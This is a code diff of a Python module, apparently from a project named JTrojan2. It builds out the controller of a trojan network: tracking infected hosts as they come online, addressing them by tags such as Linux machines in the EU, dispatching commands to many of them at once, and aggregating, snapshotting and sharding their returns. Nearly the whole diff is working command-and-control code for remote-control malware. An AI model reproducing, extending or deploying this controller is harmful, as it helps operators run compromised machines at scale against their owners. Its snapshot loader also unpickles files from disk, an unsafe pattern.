@@ -1,10 +1,363 @@
+import multiprocessing as mp
+import concurrent.futures
+import JTrojan2.tracing as tracing
 import threading
+import itertools
 import shelve
+import pickle
+import struct
+import mmap
+import os
+import queue
+import zlib
+import time
+
+
+# The address, which addresses all the trojans, that are online
+ALL = "all"
+# The prefix of the addresses, which address all the trojans with the tag following it
+TAG = "tag:"
+# The separator of the addresses, whose intersection is addressed
+INTERSECTION = "&"
+
+
+def is_symbolic(address):
+    """
+    Returns whether the given address is a symbolic address, which has to be resolved with an AddressIndex, instead of
+    the id of a single trojan
+    """
+    return address == ALL or address.startswith(TAG) or INTERSECTION in address
+
+
+class AddressIndex:
+    """
+    The AddressIndex resolves the symbolic addresses of a request into the ids of the trojans, that are online. It keeps
+    the set of the ids of all the online trojans and a set of ids per tag, which are updated whenever a trojan comes
+    online, goes offline or is tagged, so that resolving an address is a set operation and not a scan of all the
+    trojans.
+    The addresses of a request are a list, which addresses the union of the trojans of all its items. Every item is
+    either the id of a trojan, ALL for all the trojans, TAG followed by a tag name for all the trojans with that tag
+    or multiple of those joined by INTERSECTION, which addresses the trojans, that match all of them. Thus the ids of
+    trojans and the tags may contain neither commas nor the INTERSECTION character and no trojan may have the id ALL.
+    Example: ["tag:linux&tag:eu", "trojan7"] addresses all the linux trojans in the eu and trojan7.
+    """
+    def __init__(self):
+        self.all = set()
+        # The dict with the string tags as keys and the sets of the ids of the online trojans with that tag as values
+        self.tags = {}
+        # The dict with the trojan ids as keys and the sets of their tags as values, needed to remove them again
+        self.trojan_tags = {}
+
+    def add(self, trojan_id, tags=()):
+        """
+        Adds the trojan, which came online, with the given tags
+        Args:
+            trojan_id: The string id of the trojan
+            tags: The iterable of the string tags of the trojan. Default is no tags
+
+        Returns:
+        void
+        """
+        # A trojan, that reconnects, may still be in the index with its old tags
+        self.remove(trojan_id)
+        self.all.add(trojan_id)
+        self.trojan_tags[trojan_id] = set()
+        self.tag(trojan_id, tags)
+
+    def remove(self, trojan_id):
+        """
+        Removes the trojan, which went offline, from all the sets
+        Args:
+            trojan_id: The string id of the trojan
+
+        Returns:
+        void
+        """
+        self.untag(trojan_id, list(self.trojan_tags.get(trojan_id, ())))
+        self.trojan_tags.pop(trojan_id, None)
+        self.all.discard(trojan_id)
+
+    def tag(self, trojan_id, tags):
+        """
+        Adds the given tags to the trojan, in case it is in the index
+        Args:
+            trojan_id: The string id of the trojan
+            tags: The iterable of the string tags
+
+        Returns:
+        void
+        """
+        if trojan_id not in self.all:
+            return
+        for tag in tags:
+            self.tags.setdefault(tag, set()).add(trojan_id)
+            self.trojan_tags[trojan_id].add(tag)
+
+    def untag(self, trojan_id, tags):
+        """
+        Removes the given tags from the trojan
+        Args:
+            trojan_id: The string id of the trojan
+            tags: The iterable of the string tags
+
+        Returns:
+        void
+        """
+        for tag in tags:
+            members = self.tags.get(tag)
+            if members is not None:
+                members.discard(trojan_id)
+                # Not keeping the sets of tags, which are not used anymore
+                if len(members) == 0:
+                    del self.tags[tag]
+            self.trojan_tags.get(trojan_id, set()).discard(tag)
+
+    def resolve(self, addresses):
+        """
+        Resolves the given addresses into the ids of the trojans. In case there is no symbolic address, the addresses
+        are returned as they are, so the ids of trojans, that are not online, are still contained and the order is kept
+        Args:
+            addresses: The list of string addresses
+
+        Returns:
+        The list of the string trojan ids
+        """
+        if not any(is_symbolic(address) for address in addresses):
+            return list(addresses)
+        trojan_ids = set()
+        for address in addresses:
+            trojan_ids |= self.resolve_intersection(address)
+        return list(trojan_ids)
+
+    def resolve_intersection(self, address):
+        """
+        Returns the set of the trojan ids of a single item of the addresses. The set may not be modified
+        """
+        sets = [self.resolve_single(part) for part in address.split(INTERSECTION)]
+        if len(sets) == 1:
+            return sets[0]
+        # Starting with the smallest set, as the intersection costs the size of the set it starts with
+        sets.sort(key=len)
+        return sets[0].intersection(*sets[1:])
+
+    def resolve_single(self, address):
+        """
+        Returns the set of the trojan ids of a single address, which is either ALL, a tag or an id. The set may not be
+        modified
+        """
+        if address == ALL:
+            return self.all
+        if address.startswith(TAG):
+            return self.tags.get(address[len(TAG):], set())
+        return {address}
+
+
+class CountReducer:
+    """
+    The reducer, which counts the results
+    """
+    def initial(self):
+        return 0
+
+    def fold(self, state, trojan_id, value):
+        return state + 1
+
+    def combine(self, state, other):
+        return state + other
+
+
+class MergeReducer:
+    """
+    The reducer, which merges the results, which have to be dicts, into a single dict. For keys, that are contained in
+    multiple results, the value of the result, which arrived last, is kept
+    """
+    def initial(self):
+        return {}
+
+    def fold(self, state, trojan_id, value):
+        state.update(value)
+        return state
+
+    def combine(self, state, other):
+        state.update(other)
+        return state
+
+
+class GroupByValueReducer:
+    """
+    The reducer, which groups the results by their value, which has to be hashable. The state is a dict with the
+    distinct values as keys and either the amount of the trojans, that returned that value, or the lists of their ids
+    as values
+    Args:
+        keep_ids: The boolean value of whether to keep the ids of the trojans instead of counting them. Default is False
+    """
+    def __init__(self, keep_ids=False):
+        self.keep_ids = keep_ids
+
+    def initial(self):
+        return {}
+
+    def fold(self, state, trojan_id, value):
+        if self.keep_ids:
+            state.setdefault(value, []).append(trojan_id)
+        else:
+            state[value] = state.get(value, 0) + 1
+        return state
+
+    def combine(self, state, other):
+        for value, group in other.items():
+            if self.keep_ids:
+                state.setdefault(value, []).extend(group)
+            else:
+                state[value] = state.get(value, 0) + group
+        return state
+
+
+class Aggregation:
+    """
+    An Aggregation folds the returns of a command, which was executed on many trojans, into the state of a reducer as
+    soon as they are collected, so that the returns are never stored one by one. See TrojanManagement.aggregate
+    Args:
+        reducer: The reducer object, which offers the methods initial, fold and combine, e.g. a CountReducer
+        keys: The list of the (trojan id, command id, command name) tuples of the returns to be folded
+    """
+    def __init__(self, reducer, keys):
+        self.reducer = reducer
+        self.keys = keys
+        self.state = reducer.initial()
+        # The integer amount of returns, which were not folded yet
+        self.missing = len(keys)
+
+    def fold(self, trojan_id, value):
+        self.state = self.reducer.fold(self.state, trojan_id, value)
+        self.missing -= 1
+
+    def copy(self):
+        """
+        Returns a copy of the aggregation, whose state is not changed by the following folds, as the reducers change
+        their states in place
+        """
+        aggregation = Aggregation(self.reducer, self.keys)
+        aggregation.state = self.reducer.combine(self.reducer.initial(), self.state)
+        aggregation.missing = self.missing
+        return aggregation
+
+
+class CombinedAggregation:
+    """
+    The CombinedAggregation combines the states of the aggregations of the parts of a command, which was executed by
+    multiple shards or nodes, into one state. The parts, that are complete, are combined once and forgotten
+    Args:
+        reducer: The reducer object of the aggregations
+        parts: The dict with the keys of the parts, e.g. the shard indices, as keys and the ids of their aggregations as
+            values
+    """
+    def __init__(self, reducer, parts):
+        self.reducer = reducer
+        self.parts = parts
+        self.state = reducer.initial()
+
+    def update(self, polled):
+        """
+        Combines the states of the parts, that were polled
+        Args:
+            polled: The dict with the keys of the parts as keys and the (state, missing) tuples of their aggregations
+                as values
+
+        Returns:
+        The tuple (state, missing) of the whole aggregation
+        """
+        incomplete = []
+        missing = 0
+        for key, (state, part_missing) in polled.items():
+            if part_missing == 0:
+                self.state = self.reducer.combine(self.state, state)
+                del self.parts[key]
+            else:
+                incomplete.append(state)
+                missing += part_missing
+        state = self.reducer.combine(self.reducer.initial(), self.state)
+        for part_state in incomplete:
+            state = self.reducer.combine(state, part_state)
+        return state, missing
+
+
+# The header of the snapshot files: the magic bytes, the version of the format, the length of the body and the crc32
+# checksum of the body
+SNAPSHOT_HEADER = struct.Struct("<8sHQI")
+SNAPSHOT_MAGIC = b"JTROJSNP"
+SNAPSHOT_VERSION = 1
+
+
+def write_snapshot(filename, state):
+    """
+    This function writes the given state into the snapshot file of the given name. The snapshot is written into a
+    temporary file first, which then replaces the old snapshot, so that a crash while writing never leaves a broken or
+    half written snapshot behind.
+    Args:
+        filename: The string path of the snapshot file
+        state: The dict of the state. Everything in it has to be picklable
+
+    Returns:
+    void
+    """
+    body = pickle.dumps(state, pickle.HIGHEST_PROTOCOL)
+    header = SNAPSHOT_HEADER.pack(SNAPSHOT_MAGIC, SNAPSHOT_VERSION, len(body), zlib.crc32(body))
+    temporary_filename = filename + ".tmp"
+    with open(temporary_filename, "wb") as file:
+        file.write(header)
+        file.write(body)
+        file.flush()
+        os.fsync(file.fileno())
+    os.replace(temporary_filename, filename)
+
+
+def read_snapshot(filename):
+    """
+    This function reads the state from the snapshot file of the given name. The file is memory mapped, so that the
+    state is unpickled directly from the page cache without reading the whole file into a buffer first.
+    Raises:
+        FileNotFoundError: In case there is no snapshot
+        ValueError: In case the file is not a snapshot of this version or it is corrupted
+    Args:
+        filename: The string path of the snapshot file
+
+    Returns:
+    The dict of the state
+    """
+    with open(filename, "rb") as file:
+        if os.fstat(file.fileno()).st_size < SNAPSHOT_HEADER.size:
+            raise ValueError("The snapshot {} is truncated".format(filename))
+        with mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as data:
+            magic, version, length, checksum = SNAPSHOT_HEADER.unpack_from(data)
+            if magic != SNAPSHOT_MAGIC or version != SNAPSHOT_VERSION:
+                raise ValueError("The file {} is not a snapshot of version {}".format(filename, SNAPSHOT_VERSION))
+            if SNAPSHOT_HEADER.size + length > len(data):
+                raise ValueError("The snapshot {} is truncated".format(filename))
+            with memoryview(data)[SNAPSHOT_HEADER.size:SNAPSHOT_HEADER.size + length] as body:
+                if zlib.crc32(body) != checksum:
+                    raise ValueError("The snapshot {} is corrupted".format(filename))
+                return pickle.loads(body)
 
 
 class TrojanManagement(threading.Thread):
-    # TODO: Method docs
-    def __init__(self, shelve_filename):
+    """
+    The TrojanManagement keeps track of the trojans, that are online, dispatches commands to them and collects their
+    returns. The persistent data of the trojans is kept in a shelf.
+    The state, that only exists in memory, which is the returns, that were not taken yet, and the aggregations, can be
+    written to a snapshot file periodically. The snapshot is loaded, when the management is created again, so that a
+    restarted server can continue where it left off instead of dispatching all the commands again. The trojans
+    themselves are not part of the snapshot, as they are bound to their connections. They are added again as they
+    reconnect, and their tags are restored from the shelf. As the command ids are only valid for the trojan object,
+    that issued them, the commands, which did not return yet, are not part of the snapshot either, see
+    'discard_commands'. The aggregations, that wait for their returns, stay incomplete until they are discarded.
+    Args:
+        shelve_filename: The string path of the shelf
+        snapshot_filename: The string path of the snapshot file. Default is None, which means no snapshots
+        snapshot_interval: The float amount of seconds between two snapshots, taken in the cycles. Default is 5
+    """
+    def __init__(self, shelve_filename, snapshot_filename=None, snapshot_interval=5):
+        threading.Thread.__init__(self)
         self.shelve_filename = shelve_filename
         # The shelf contains the persistent data about the trojans, such as logs, meta data etc.
         # If something is a key in the shelf also determines, whether that trojan already is registered
@@ -20,28 +373,244 @@ class TrojanManagement(threading.Thread):
         # This is a temporary list, that buffers tripels about commands executed on trojans, but the returns not yet
         # aquired: (trojan_id, command_id, command_name)
         self._pending_returns = []
+        # The lock, that protects the pending returns, the return dict and the state of the coalescing and of the
+        # aggregations, as the commands may be executed and the returns taken by other threads, while the main loop
+        # collects the returns. It is reentrant, as executing a command may terminate a trojan, that went offline
+        self._lock = threading.RLock()
         self.running = False
 
+        # The index of the trojans, that are online, by their tags, with which the symbolic addresses are resolved
+        self.index = AddressIndex()
+        # The set of the ids of the trojans, that were removed, since they were last taken, see 'pop_removed'. It is
+        # bounded by the amount of the registered trojans
+        self._removed = set()
+
+        # The dict with the keys of the commands, which were executed with coalescing and did not return yet, as keys
+        # and their command ids as values, see 'create_coalesce_key'
+        self._in_flight = {}
+        # The dict with the (trojan id, command id, command name) keys of those commands and their coalesce keys
+        self._coalesce_keys = {}
+        # The dict with the return keys as keys and the integer amount of additional callers, that share that return
+        # because they were coalesced, as values. A return is only removed, after the last one took it
+        self._sharers = {}
+
+        # The dict with the integer ids of the aggregations as keys and the Aggregation objects as values
+        self._aggregations = {}
+        # The dict with the return keys as keys and the lists of the ids of the aggregations, which wait for them
+        self._aggregated = {}
+        self._aggregation_counter = itertools.count()
+
+        self.snapshot_filename = snapshot_filename
+        self.snapshot_interval = snapshot_interval
+        self._last_snapshot = time.time()
+        if snapshot_filename is not None:
+            self.load_snapshot()
+
     def run(self):
         self.running = True
 
         while self.running:
-            # TODO: Put those processes into their own methods
             # TODO: Add a logging process, that monitors the length of those collections and the time needed for the loops
-            # Garbage collection
-            self.collect_garbage()
+            self.cycle()
+
+        # Taking a last snapshot, so that nothing of the last cycles is lost
+        if self.snapshot_filename is not None:
+            self.save_snapshot()
+
+    def cycle(self, sync=True):
+        """
+        This method runs one cycle of the management: removing the trojans, that went offline, collecting the returns,
+        that are available by now and optionally writing the shelf back to the disk
+        Args:
+            sync: The boolean value of whether to sync the shelf in this cycle. Default is True
+
+        Returns:
+        void
+        """
+        # Garbage collection
+        self.collect_garbage()
+
+        # Getting the returns
+        self.collect_returns()
+
+        # Updating the database
+        if sync:
+            self.sync_shelf()
+
+        if self.snapshot_filename is not None and time.time() - self._last_snapshot >= self.snapshot_interval:
+            self.save_snapshot()
+
+    def create_snapshot_state(self):
+        """
+        Returns the dict of the state, that only exists in memory and is written into the snapshots. The state is a
+        copy, which is taken under the lock, so that it can be pickled, while the callers keep changing the original
+        """
+        with self._lock:
+            # Only the sharers of the collected returns are kept, the others belong to commands, which did not return
+            # yet
+            sharers = {key: amount for key, amount in self._sharers.items() if key in self.return_dict}
+            return {
+                "return_dict": dict(self.return_dict),
+                "sharers": sharers,
+                "aggregations": {
+                    aggregation_id: aggregation.copy() for aggregation_id, aggregation in self._aggregations.items()
+                }
+            }
+
+    def save_snapshot(self):
+        """
+        Writes the state, that only exists in memory, to the snapshot file
+        Returns:
+        void
+        """
+        write_snapshot(self.snapshot_filename, self.create_snapshot_state())
+        self._last_snapshot = time.time()
 
-            # Getting the returns
+    def load_snapshot(self):
+        """
+        Restores the state, that only exists in memory, from the snapshot file. In case there is no snapshot or it
+        cannot be used, the management starts from scratch, as there is nothing else to do about it
+        Returns:
+        The boolean value of whether the snapshot was loaded
+        """
+        try:
+            state = read_snapshot(self.snapshot_filename)
+        except (OSError, ValueError, pickle.UnpicklingError):
+            return False
+        self.return_dict = state["return_dict"]
+        self._sharers = state["sharers"]
+        self._aggregations = state["aggregations"]
+        # The ids of new aggregations continue after the restored ones
+        self._aggregation_counter = itertools.count(max(self._aggregations, default=-1) + 1)
+        return True
+
+    def collect_returns(self):
+        """
+        This method goes through the list of pending returns and moves every return, that is available by now, from
+        the trojan into the return dict. Returns of trojans, that went offline, stay pending.
+        Returns:
+        void
+        """
+        # The lock is held while checking the returns, so that no command of a trojan can be forgotten or joined
+        # while its return is being collected
+        with self._lock:
+            still_pending = []
             for trojan_id, command_id, command_name in self._pending_returns:
-                if self[trojan_id].has_return(command_id):
-                    return_value = self[trojan_id].get_return(command_id)
+                if trojan_id in self.trojan_dict and self[trojan_id].has_return(command_id):
+                    key = (trojan_id, command_id, command_name)
                     # Adding the return to the return dict
-                    self.return_dict[(trojan_id, command_id, command_name)] = return_value
-                    # Removing from the list, as the result is not pending anymore
-                    self._pending_returns.remove((trojan_id, command_id))
+                    self.return_dict[key] = self[trojan_id].get_return(command_id)
+                    # The command is not in flight anymore, thus the same command will be executed again from now on
+                    coalesce_key = self._coalesce_keys.pop(key, None)
+                    if coalesce_key is not None:
+                        del self._in_flight[coalesce_key]
+                    # The aggregations take the return right away. Every caller may only take a return once, a second
+                    # aggregation of the same return by the same caller will not get it
+                    for aggregation_id in self._aggregated.pop(key, ()):
+                        if key in self.return_dict:
+                            self._aggregations[aggregation_id].fold(trojan_id, self.take_return(key))
+                else:
+                    still_pending.append((trojan_id, command_id, command_name))
+            self._pending_returns = still_pending
 
-            # Updating the database
-            self.sync_shelf()
+    def pop_results(self, trojan_ids, command_ids, command_name):
+        """
+        This method takes all the returns of the given commands, which are available in the return dict, out of it
+        and returns them as result tuples, that can directly be sent in a ResponseBatchForm. That way the results of a
+        command, which was executed on many trojans, can be sent to the waiting client with a few writes, as soon as
+        they are available, instead of one response per trojan.
+        Args:
+            trojan_ids: The list of the string trojan ids, as returned by 'execute'
+            command_ids: The list of the command ids, as returned by 'execute'
+            command_name: The string name of the command
+
+        Returns:
+        A tuple (results, missing), where results is the list of (trojan id, command id, "ok", value) tuples of the
+        available returns and missing the list of (trojan id, command id) tuples of the returns, that are still pending
+        """
+        results = []
+        missing = []
+        with self._lock:
+            for trojan_id, command_id in zip(trojan_ids, command_ids):
+                key = (trojan_id, command_id, command_name)
+                if key in self.return_dict:
+                    results.append((trojan_id, command_id, "ok", self.take_return(key)))
+                else:
+                    missing.append((trojan_id, command_id))
+        return results, missing
+
+    def take_return(self, key):
+        """
+        Returns the return value of the given key from the return dict and removes it from there, unless it is shared
+        by other callers, which were coalesced and did not take it yet
+        Args:
+            key: The (trojan id, command id, command name) tuple
+
+        Returns:
+        The return value
+        """
+        with self._lock:
+            sharers = self._sharers.pop(key, 0)
+            if sharers == 0:
+                return self.return_dict.pop(key)
+            if sharers > 1:
+                self._sharers[key] = sharers - 1
+            return self.return_dict[key]
+
+    def aggregate(self, trojan_ids, command_ids, command_name, reducer):
+        """
+        This method folds the returns of the given commands into the state of the given reducer, instead of keeping
+        them in the return dict, so that the caller of a command, which was executed on many trojans, gets a compact
+        aggregate instead of all the single returns. The returns, which are already available, are folded right away
+        and the others as soon as they are collected.
+        Just like with 'pop_results', every caller can only take the return of a command once, either with
+        'pop_results' or with 'aggregate'.
+        Args:
+            trojan_ids: The list of the string trojan ids, as returned by 'execute'
+            command_ids: The list of the command ids, as returned by 'execute'
+            command_name: The string name of the command
+            reducer: The reducer object, e.g. a CountReducer, MergeReducer or GroupByValueReducer
+
+        Returns:
+        The integer id of the aggregation, see 'poll_aggregate'
+        """
+        keys = [(trojan_id, command_id, command_name) for trojan_id, command_id in zip(trojan_ids, command_ids)]
+        aggregation = Aggregation(reducer, keys)
+        with self._lock:
+            aggregation_id = next(self._aggregation_counter)
+            self._aggregations[aggregation_id] = aggregation
+            for key in keys:
+                if key in self.return_dict:
+                    aggregation.fold(key[0], self.take_return(key))
+                else:
+                    self._aggregated.setdefault(key, []).append(aggregation_id)
+            return aggregation_id
+
+    def poll_aggregate(self, aggregation_id, discard=False):
+        """
+        This method returns the current state of the given aggregation. Once all the returns were folded, the
+        aggregation is removed. An aggregation, that waits for returns of trojans, that went offline, can be removed by
+        discarding it
+        Raises:
+            KeyError: In case there is no such aggregation, which is also the case after it was complete or discarded
+        Args:
+            aggregation_id: The integer id of the aggregation, as returned by 'aggregate'
+            discard: The boolean value of whether to remove the aggregation, even if not all returns were folded
+
+        Returns:
+        The tuple (state, missing) of the state of the reducer and the integer amount of returns, that were not folded
+        """
+        with self._lock:
+            aggregation = self._aggregations[aggregation_id]
+            if aggregation.missing == 0 or discard:
+                del self._aggregations[aggregation_id]
+                for key in aggregation.keys:
+                    waiting = self._aggregated.get(key)
+                    if waiting is not None and aggregation_id in waiting:
+                        waiting.remove(aggregation_id)
+                        if len(waiting) == 0:
+                            del self._aggregated[key]
+            return aggregation.state, aggregation.missing
 
     def register_trojan(self, trojan_id):
         """
@@ -69,21 +638,61 @@ class TrojanManagement(threading.Thread):
         This method takes a Trojan object and from that its id and if this trojan is already registered in the
         persistent database, then it is simply added to the dict of currently online trojans, in case it is a
         completely new trojan, it is being registered first and then added to the list of online trojans by calling
-        this method recursively.
+        this method recursively. In case another object of the same trojan is still in the dict, because the trojan
+        reconnected before the old one was collected, the commands of the old object are forgotten.
         Args:
             trojan: The trojan object to be added to the management
 
         Returns:
         void
         """
+        # The command ids of the old object are not valid for the new one, see 'discard_commands'
+        if self.trojan_dict.get(trojan.id, trojan) is not trojan:
+            self.discard_commands([trojan.id])
         # Adding the trojan to the trojan manage dict, in case the trojan already registered in shelf
         if self.trojan_registered(trojan.id):
             self.trojan_dict[trojan.id] = trojan
+            self.index.add(trojan.id, self.shelf[trojan.id].get("tags", ()))
         else:
             self.register_trojan(trojan.id)
             # Now that the trojan is registered, the method can be called recursively
             self.add_trojan(trojan)
 
+    def tag_trojan(self, trojan_id, tags):
+        """
+        This method adds the given tags to the registered trojan. The tags are saved in the shelf, so that the trojan
+        has them again, when it comes back online
+        Raises:
+            KeyError: In case the trojan is not registered
+        Args:
+            trojan_id: The string id of the trojan
+            tags: The list of the string tags
+
+        Returns:
+        void
+        """
+        entry = self.shelf[trojan_id]
+        entry["tags"] = set(entry.get("tags", ())) | set(tags)
+        self.shelf[trojan_id] = entry
+        self.index.tag(trojan_id, tags)
+
+    def untag_trojan(self, trojan_id, tags):
+        """
+        This method removes the given tags from the registered trojan
+        Raises:
+            KeyError: In case the trojan is not registered
+        Args:
+            trojan_id: The string id of the trojan
+            tags: The list of the string tags
+
+        Returns:
+        void
+        """
+        entry = self.shelf[trojan_id]
+        entry["tags"] = set(entry.get("tags", ())) - set(tags)
+        self.shelf[trojan_id] = entry
+        self.index.untag(trojan_id, tags)
+
     def trojan_registered(self, trojan_id):
         """
         This method returns if a trojan by the given string id is already registered in the persistent database
@@ -112,7 +721,8 @@ class TrojanManagement(threading.Thread):
 
         return False
 
-    def execute(self, trojan_id_list, command, priority, pos_args, kw_args, treat_missing=False):
+    def execute(self, trojan_id_list, command, priority, pos_args, kw_args, treat_missing=False, trace=None,
+                coalesce=False):
         """
         This method is used to execute commands on the trojans, to do that it takes the list of trojan ids, for whose
         corresponding trojan objects the command is to be executed, the command name, the priority and the arguments
@@ -127,13 +737,20 @@ class TrojanManagement(threading.Thread):
         then will be put into the returns dictionary of the management object, where the return values can be
         accessed easily. That means to fetch the return one only has to wait for it to appear in that dict.
         Args:
-            trojan_id_list: The list of string id's of the trojans for which the command shall be executed
+            trojan_id_list: The list of string id's of the trojans for which the command shall be executed. It may also
+                contain symbolic addresses, which are resolved with the index, see AddressIndex
             command: The string name of the command
             priority: An integer value for the priority of that command
             pos_args: The list of pos arguments for that command call. Order is important!
             kw_args: The dict with keyword arguments for the command call. spelling of keys is important!
             treat_missing: The flag, that determines whether an error shall be risen every time one trojan of the
                 given list is unavailable.
+            trace: The tracing.Trace object of the request, that issued the command. The dispatch is recorded as a
+                span into it. Default is None, which means not traced
+            coalesce: The boolean value of whether to join the command with an identical command, that was executed
+                with coalescing on the same trojan and did not return yet. Identical means the same name and the same
+                arguments, the priority does not matter. The joined callers get the command id of the command in flight
+                and share its return. Default is False
 
         Returns:
         The tuple (trojan_ids, command_ids) where trojan ids is a sub list of the passed trojan list, and contains all
@@ -141,6 +758,8 @@ class TrojanManagement(threading.Thread):
         ids the list of the command ids used for getting the return value for that specific command call later from the
         trojan. The lists have the same length and co-align with order -> command id matches trojan id
         """
+        start = tracing.now()
+        trojan_id_list = self.index.resolve(trojan_id_list)
         # This list will be used to save all the trojan id's for which the command could at least be issued to the
         # according Trojan object, because the trojan with that id both exists and is online
         successfully_passed = []
@@ -148,30 +767,71 @@ class TrojanManagement(threading.Thread):
         # The list with the id's, so that the return values can be fetched from the outputs of the trojans after the
         # command has been processed
         command_ids = []
+        # The trojan ids and command ids of the commands, that were actually executed and not joined
+        executed_ids = []
+        executed_command_ids = []
 
-        # Going through the list of the trojans for which to execute the command
-        for trojan_id in trojan_id_list:
+        # The lock is held for all the trojans, so that the commands in flight, that are joined, cannot return and be
+        # collected, before the commands of this call are pending
+        with self._lock:
+            # Going through the list of the trojans for which to execute the command
+            for trojan_id in trojan_id_list:
 
-            # Only if the flag is set True, exceptions will be risen if a command could not be issued to a Trojan,
-            # because it either does not exist, or is not online atm.
-            if treat_missing:
-                if not self.trojan_registered(trojan_id):
-                    raise KeyError("The trojan by the id '{}' does not exist")
-                else:
-                    if not self.trojan_online(trojan_id):
-                        raise KeyError("The trojan by the id '{}' is not online")
+                # Only if the flag is set True, exceptions will be risen if a command could not be issued to a Trojan,
+                # because it either does not exist, or is not online atm.
+                if treat_missing:
+                    if not self.trojan_registered(trojan_id):
+                        raise KeyError("The trojan by the id '{}' does not exist")
+                    else:
+                        if not self.trojan_online(trojan_id):
+                            raise KeyError("The trojan by the id '{}' is not online")
 
-            # In case the trojan is online passing it the command and adding the id to the list of actually online tr.
-            if self.trojan_online(trojan_id):
-                command_id = self[trojan_id].execute(command, priority, pos_args, kw_args)
-                command_ids.append(command_id)
-                successfully_passed.append(trojan_id)
+                # In case the trojan is online passing it the command and adding the id to the list of actually online
+                # tr.
+                if self.trojan_online(trojan_id):
+                    coalesce_key = self.create_coalesce_key(trojan_id, command, pos_args, kw_args) if coalesce else None
+                    if coalesce_key in self._in_flight:
+                        command_id = self._in_flight[coalesce_key]
+                        key = (trojan_id, command_id, command)
+                        self._sharers[key] = self._sharers.get(key, 0) + 1
+                    else:
+                        command_id = self[trojan_id].execute(command, priority, pos_args, kw_args)
+                        executed_ids.append(trojan_id)
+                        executed_command_ids.append(command_id)
+                        if coalesce_key is not None:
+                            self._in_flight[coalesce_key] = command_id
+                            self._coalesce_keys[(trojan_id, command_id, command)] = coalesce_key
+                    command_ids.append(command_id)
+                    successfully_passed.append(trojan_id)
 
-        # Adding the trojan ids and the command ids to the pending returns list
-        self._add_pending_returns(successfully_passed, command_ids, command)
+            # Adding the trojan ids and the command ids to the pending returns list
+            self._add_pending_returns(executed_ids, executed_command_ids, command)
+
+        if trace is not None:
+            trace.add_span("management.execute", start, tracing.now())
 
         return successfully_passed, command_ids
 
+    @staticmethod
+    def create_coalesce_key(trojan_id, command, pos_args, kw_args):
+        """
+        Creates the key, which identical commands on the same trojan have in common. The arguments are compared by
+        their pickled data, as they do not have to be hashable
+        Args:
+            trojan_id: The string id of the trojan
+            command: The string name of the command
+            pos_args: The list of the positional arguments
+            kw_args: The dict of the keyword arguments
+
+        Returns:
+        The tuple key or None, in case the arguments cannot be pickled, which means the command is not coalesced
+        """
+        try:
+            arguments = pickle.dumps((pos_args, sorted(kw_args.items())), pickle.HIGHEST_PROTOCOL)
+        except (pickle.PicklingError, TypeError, AttributeError):
+            return None
+        return trojan_id, command, arguments
+
     def load_shelf(self):
         """
         This method simply uses the attribute about the path of the shelve database used for the persistent storage of
@@ -201,28 +861,87 @@ class TrojanManagement(threading.Thread):
         void
         """
         items = list(self.trojan_dict.items())
-        for trojan_id, trojan in items:
-            if not trojan.online:
-                # Terminating the trojan finally and removing it from the dict
-                self.terminate_trojan(trojan_id)
+        offline = [trojan_id for trojan_id, trojan in items if not trojan.online]
+        for trojan_id in offline:
+            # Terminating the trojan finally and removing it from the dict
+            self.remove_trojan(trojan_id)
+        # Forgetting the commands of all of them at once, as that goes through all the commands in flight
+        if len(offline) > 0:
+            self.discard_commands(offline)
 
     def terminate_trojan(self, trojan_id):
         """
         This method calls the final terminate method of the trojan addressed by the trojan id. The trojan has to be in
-        the trojan dict (doesn't matter if actually online). Then deletes that trojan from the trojan dict
+        the trojan dict (doesn't matter if actually online). Then deletes that trojan from the trojan dict and forgets
+        the commands of the trojan, which did not return yet, see 'discard_commands'
         Args:
             trojan_id: The string id of the trojan to be removed and terminated from the management
 
         Returns:
         void
         """
-        if trojan_id in self.trojan_dict.keys():
-            self[trojan_id].terminate()
-            del self.trojan_dict[trojan_id]
+        if self.remove_trojan(trojan_id):
+            self.discard_commands([trojan_id])
 
-    def _add_pending_returns(self, command_name, trojan_ids, command_ids):
-        tuple_list = list(zip(trojan_ids, command_ids, command_name))
-        self._pending_returns += tuple_list
+    def remove_trojan(self, trojan_id):
+        """
+        This method terminates the trojan and removes it from the trojan dict and the index, without forgetting its
+        commands
+        Args:
+            trojan_id: The string id of the trojan
+
+        Returns:
+        The boolean value of whether the trojan was in the trojan dict
+        """
+        if trojan_id not in self.trojan_dict.keys():
+            return False
+        self[trojan_id].terminate()
+        del self.trojan_dict[trojan_id]
+        self.index.remove(trojan_id)
+        self._removed.add(trojan_id)
+        return True
+
+    def pop_removed(self):
+        """
+        This method returns the ids of the trojans, that were removed from the management since the last call, because
+        they went offline or were terminated, and are not online again by now. This is used to release the trojans,
+        which were claimed somewhere else, e.g. in the directory of a cluster
+        Returns:
+        The list of the string trojan ids
+        """
+        with self._lock:
+            removed = [trojan_id for trojan_id in self._removed if trojan_id not in self.trojan_dict]
+            self._removed = set()
+        return removed
+
+    def discard_commands(self, trojan_ids):
+        """
+        This method forgets the commands of the given trojans, which did not return yet. The command ids are only valid
+        for the trojan object, that issued them, and a trojan, which comes online again, is a new object, that starts
+        counting its commands anew. Thus the returns of those commands can never be collected anymore and an identical
+        command must not be joined with one of them, as the caller would get the return of whichever command of the
+        new object has the same id. The returns, which were already collected, stay available. The aggregations, that
+        waited for the forgotten returns, stay incomplete until they are discarded.
+        Args:
+            trojan_ids: The list of the string trojan ids
+
+        Returns:
+        void
+        """
+        trojan_ids = set(trojan_ids)
+        with self._lock:
+            self._pending_returns = [pending for pending in self._pending_returns if pending[0] not in trojan_ids]
+            for key in [key for key in self._coalesce_keys if key[0] in trojan_ids]:
+                del self._in_flight[self._coalesce_keys.pop(key)]
+            for key in [key for key in self._sharers if key[0] in trojan_ids and key not in self.return_dict]:
+                del self._sharers[key]
+            for key in [key for key in self._aggregated if key[0] in trojan_ids]:
+                del self._aggregated[key]
+
+    def _add_pending_returns(self, trojan_ids, command_ids, command_name):
+        tuple_list = [(trojan_id, command_id, command_name) for trojan_id, command_id in zip(trojan_ids, command_ids)]
+        with self._lock:
+            self._pending_returns += tuple_list
 
     def __getitem__(self, item):
         """
@@ -236,3 +955,438 @@ class TrojanManagement(threading.Thread):
         """
         return self.trojan_dict[item]
 
+
+def shard_of(trojan_id, shard_amount):
+    """
+    Returns the index of the shard, which the trojan with the given id belongs to. The crc32 hash is used instead of
+    the builtin hash, as that is randomized per process and the shard of an id has to be the same in every process and
+    after every restart, as the shards keep their own shelves
+    Args:
+        trojan_id: The string id of the trojan
+        shard_amount: The integer amount of shards
+
+    Returns:
+    The integer index of the shard
+    """
+    return zlib.crc32(trojan_id.encode()) % shard_amount
+
+
